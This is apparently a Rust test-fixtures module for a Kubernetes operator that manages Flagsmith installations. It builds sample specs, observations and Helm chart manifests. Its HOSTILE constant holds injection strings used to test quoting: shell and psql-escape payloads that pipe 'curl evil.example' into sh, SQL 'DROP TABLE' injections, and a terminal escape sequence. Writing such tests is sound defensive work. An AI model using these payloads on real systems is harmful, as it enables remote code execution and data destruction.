//! Installations and observations for tests.

use jiff::Timestamp;
use serde_json::{Value, json};

use crate::{
    api::{FlagsmithDeployment, FlagsmithDeploymentStatus},
    observe::{
        ConfigMaps, Observation, SecretState, Secrets, WorkloadState,
        discover::{self, Found, Objects, Selected},
    },
    postgres::DatabaseIdentity,
    runtime::lock_key::LockKey,
    validate::{Identity, Installation, ObservedInstallation, Selection, validate},
};

/// The smallest useful specification: an external database.
pub(crate) fn minimal() -> Value {
    json!({ "version": "2.265.0", "database": { "urlFrom": { "secretKeyRef": { "name": "db", "key": "DATABASE_URL" } } } })
}

/// [`minimal`], with the fields of `changes` instead of its own.
pub(crate) fn spec(changes: Value) -> Value {
    let mut spec = minimal();
    if let (Some(spec), Value::Object(changes)) = (spec.as_object_mut(), changes) {
        spec.extend(changes);
    }
    spec
}

/// A resource named prod/flagsmith as the API server has stored it.
pub(crate) fn resource(spec: &Value) -> FlagsmithDeployment {
    serde_json::from_value(json!({
        "apiVersion": "operator.flagsmith.com/v1alpha1",
        "kind": "FlagsmithDeployment",
        "metadata": { "name": "flagsmith", "namespace": "prod", "uid": "b9b0b7a6", "generation": 1 },
        "spec": spec,
    }))
    .unwrap()
}

/// The installation of a specification that is valid.
pub(crate) fn installation(spec: &Value) -> Installation {
    validate(&resource(spec)).unwrap().managed().unwrap()
}

/// The database of every fixture.
pub(crate) fn database() -> DatabaseIdentity {
    DatabaseIdentity { host: "db.prod".to_owned(), port: 5432, name: "flags".to_owned() }
}

/// A namespace with all Secrets and nothing else.
pub(crate) fn empty_observation() -> Observation {
    Observation {
        secrets: Secrets {
            database: SecretState::Present(database()),
            migration_database: SecretState::Present(database()),
            task_processor_database: None,
            urls: crate::observe::KeptUrls::default(),
            missing_parts: Vec::new(),
            of_processor: None,
            django: SecretState::Present(()),
            hash: Some("5ec7e7".to_owned()),
            migration_hash: Some("migration-hash".to_owned()),
        },
        migration_lock: Some(LockKey::new(b"fixtures").label(&database(), "prod")),
        http_route_api: true,
        pod_monitor_api: true,
        ..Observation::unseen(FlagsmithDeploymentStatus::default(), Timestamp::UNIX_EPOCH)
    }
}

/// A workload of no release with every pod ready.
pub(crate) fn rolled_out(name: String, pods: i32) -> WorkloadState {
    WorkloadState {
        name,
        desired: pods,
        replicas: pods,
        updated: pods,
        ready: pods,
        available: pods,
        observed: true,
        ..WorkloadState::default()
    }
}

/// Names, as whoever may create objects or tables chooses them, that would do harm in a command if they were not quoted.
pub(crate) const HOSTILE: [&str; 4] = [
    "x;curl evil.example|sh",
    "x\"; DROP TABLE t; --",
    "x\u{1b}]0;pwn\u{7}\n\\! curl evil.example|sh",
    "x'; DROP TABLE t; --",
];

/// A backup into a volume claim.
pub(crate) fn backup() -> crate::api::BackupSpec {
    serde_json::from_value(json!({ "volumeClaim": { "claimName": "backups" } })).unwrap()
}

/// What the official chart makes by default, release `flagsmith`.
pub(crate) const CHART_DEFAULT: &str = include_str!("../tests/fixtures/official-chart/default.yaml");

/// What it makes with task processor, migration Job and autoscaler, release `acme`.
pub(crate) const CHART_WITH_PROCESSOR: &str =
    include_str!("../tests/fixtures/official-chart/task-processor-and-migrate-job.yaml");

/// The same from chart 0.82.0 on, by what its public pull requests 533 and 542 say: a preStop of 20 s, as a program, and
/// 75 s of grace for the API, ports of API and task processor with names, and a Job whose annotations may be set.
pub(crate) fn chart_0_82() -> String {
    let api = "      containers:\n      - name: flagsmith-api\n";
    let hook = "      terminationGracePeriodSeconds: 75\n      containers:\n      - name: flagsmith-api\n        \
                lifecycle: {preStop: {exec: {command: [sleep, \"20\"]}}}\n";
    let job = "  name: acme-flagsmith-migrate-db-1-";
    CHART_WITH_PROCESSOR
        .replace("flagsmith-0.81.0", "flagsmith-0.82.0")
        .replace(api, hook)
        .replace("- containerPort: 8000", "- name: http\n          containerPort: 8000")
        .replace(job, &format!("  annotations: {{argocd.argoproj.io/hook: PreSync}}\n{job}"))
}

fn push<T: serde::de::DeserializeOwned>(list: &mut Vec<std::sync::Arc<T>>, object: Value) {
    list.push(std::sync::Arc::new(serde_json::from_value(object).unwrap()));
}

/// The objects of a manifest as a server shows them when every pod that is wanted is ready.
pub(crate) fn objects(manifest: &str) -> Objects {
    shown(&documents(manifest))
}

/// The documents of a manifest, each of which begins with a comment.
pub(crate) fn documents(manifest: &str) -> Vec<Value> {
    let bodies = manifest.split("\n---").filter_map(|it| Some(it.split_once('\n')?.1));
    bodies.filter_map(|it| serde_saphyr::from_str::<Value>(it).ok()).filter(|it| !it.is_null()).collect()
}

/// The same of documents.
pub(crate) fn shown(documents: &[Value]) -> Objects {
    let mut objects = Objects::default();
    for object in documents {
        let mut object = object.clone();
        object["metadata"]["namespace"] = json!("prod");
        if object["kind"] == "Deployment" {
            let pods = object["spec"]["replicas"].as_i64().unwrap_or(1);
            object["status"] = json!({
                "replicas": pods, "updatedReplicas": pods, "readyReplicas": pods, "availableReplicas": pods,
            });
        }
        match object["kind"].as_str().unwrap() {
            "Deployment" => push(&mut objects.deployments, object),
            "Job" => push(&mut objects.jobs, object),
            "Pod" => push(&mut objects.pods, object),
            "Service" => push(&mut objects.services, object),
            "Ingress" => push(&mut objects.ingresses, object),
            "HorizontalPodAutoscaler" => push(&mut objects.autoscalers, object),
            _ => {}
        }
    }
    objects
}

/// Somebody else's installation in the namespace prod.
pub(crate) fn subject(selection: Selection) -> ObservedInstallation {
    ObservedInstallation {
        identity: Identity {
            name: "watched".to_owned(),
            namespace: "prod".to_owned(),
            uid: "b9b0b7a6".to_owned(),
            generation: 1,
        },
        selection,
        release: None,
        database: None,
        authorities: None,
        proxy: None,
    }
}

/// What is found of a release of the official chart, and what is seen of it.
pub(crate) fn observed(release: &str, objects: &Objects) -> (Found, Observation) {
    let subject = subject(Selection::Release(release.to_owned()));
    let selected = Selected::new(&subject.selection, objects);
    let found = discover::find(&subject, &selected, &ConfigMaps::new());
    let observation = discover::assemble(
        &found,
        &selected,
        objects,
        FlagsmithDeploymentStatus::default(),
        Timestamp::UNIX_EPOCH,
    );
    (found, observation)
}
